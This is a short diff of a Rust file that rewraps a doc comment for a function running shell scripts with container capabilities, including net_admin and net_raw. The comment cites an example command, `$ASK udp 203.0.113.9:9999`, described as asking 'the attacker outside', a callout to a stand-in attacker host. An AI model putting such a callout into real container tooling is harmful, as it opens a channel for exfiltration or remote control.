@@ -12,7 +12,8 @@ const CAPABILITIES: &str = "-all,+chown,+dac_override,+fowner,+fsetid,+kill,+set
                             +net_bind_service,+sys_chroot,+mknod,+audit_write,+setfcap,+net_raw,\
                             +net_admin";
 
-/// Runs a shell script with a container's capabilities. `$ASK udp 203.0.113.9:9999` asks the attacker outside.
+/// Runs a shell script with a container's capabilities. `$ASK udp 203.0.113.9:9999` asks the attacker
+/// outside.
 ///
 /// # Errors
 /// It can't be started.
